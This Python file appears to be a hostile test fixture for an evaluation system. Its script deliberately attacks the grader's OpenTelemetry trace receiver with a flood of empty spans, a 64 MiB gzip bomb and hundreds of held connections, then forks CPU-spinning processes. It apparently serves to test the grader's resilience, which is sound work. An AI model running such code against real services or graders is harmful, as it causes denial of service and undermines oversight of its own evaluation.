"""Hostile: attack the grader itself, which runs outside the sandbox's limits - flood its OTLP receiver
(500k empty spans per 1 MB request, a gzip bomb, hundreds of held connections) and spin every CPU."""
import gzip
import http.client
import os
import socket
import time

from services.common.http import json_app, serve

port = int(os.environ["OTEL_EXPORTER_OTLP_ENDPOINT"].rsplit(":", 1)[1])


def field(number: int, payload: bytes) -> bytes:
    """A length-delimited protobuf field (wire type 2)."""
    size, n = b"", len(payload)
    while True:
        size += bytes([(n & 0x7F) | (0x80 if n > 0x7F else 0)])
        n >>= 7
        if not n:
            break
    return bytes([number << 3 | 2]) + size + payload


# ExportTraceServiceRequest.resource_spans[0].scope_spans[0].spans: 500k empty spans, two bytes each
flood = field(1, field(2, field(2, b"") * 500_000))
print(f"flood body: {len(flood)} bytes", flush=True)


def post(body: bytes, **headers) -> int:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        conn.request("POST", "/v1/traces", body, {"Content-Type": "application/x-protobuf", **headers})
        return conn.getresponse().status
    except OSError as e:
        return str(e)
    finally:
        conn.close()


bomb = gzip.compress(b"\0" * (64 << 20), 9)
print(f"gzip bomb ({len(bomb)} bytes, 64 MiB inflated): answer {post(bomb, **{'Content-Encoding': 'gzip'})}",
      flush=True)

answers = [post(flood) for _ in range(10)]
print(f"5M empty spans sent: answers {answers}", flush=True)
held = []
for _ in range(300):
    try:
        held.append(socket.create_connection(("127.0.0.1", port), timeout=5))
    except OSError:
        break


def still_open(sock: socket.socket) -> bool:
    try:
        return sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


deadline = time.monotonic() + 30
while (open_now := sum(map(still_open, held))) > 16 and time.monotonic() < deadline:
    time.sleep(0.2)
print(f"ATTACK {'SUCCEEDED' if open_now > 16 else 'FAILED'}: {open_now} of {len(held)} connections held open",
      flush=True)
SPINNERS = 8
for _ in range(SPINNERS):  # processes, not threads: each can take a CPU of its own
    if os.fork() == 0:
        while True:
            pass
print(f"spinning {SPINNERS} processes; flood done", flush=True)
serve(json_app("floods-grader"))
